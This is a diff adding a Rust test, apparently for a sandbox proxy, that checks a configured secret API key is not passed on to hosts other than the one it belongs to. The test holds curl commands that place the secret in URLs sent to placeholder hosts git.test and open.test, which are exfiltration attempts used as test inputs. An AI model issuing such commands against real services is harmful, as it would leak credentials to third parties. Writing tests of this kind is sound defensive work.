@@ -119,6 +119,29 @@ fn a_secret_goes_to_its_port() {
 }
 
 #[test]
+fn no_other_road_brings_a_secret_back() {
+    let Some(servers) = Servers::start() else { return };
+    let project = Project::new(
+        "env { secret API_KEY host=api.test from=\"file:~/key\"; }
+        network allowlist { allow api.test; allow open.test methods=GET; allow git.test port=9419; }\n",
+    );
+    project.write_beside("home/key", format!("{KEY}\n"));
+    project.write_beside("bundle.pem", &servers.web.authority);
+    project.trust();
+    // Somebody has told it to somebody else, who tells it again: without TLS, and from another host.
+    for script in [
+        format!("curl -sS -x http://127.0.0.1:3128 http://git.test:9419/{KEY}"),
+        format!("curl -sS https://open.test/{KEY}"),
+    ] {
+        let hosts = format!("{HOSTS}11.93.7.2 git.test\n");
+        let text = inside(&project, &hosts, &script).text();
+        assert!(text.contains("GET /") && !text.contains(KEY), "{script}: {text}");
+    }
+    let text = inside(&project, HOSTS, "curl -sS -X TRACE https://api.test/").text();
+    assert!(text.contains("no request for a path"), "{text}");
+}
+
+#[test]
 fn no_part_of_an_answer_echoes_a_secret() {
     let Some((servers, project)) = world() else { return };
     for version in ["--http1.1", "--http2"] {
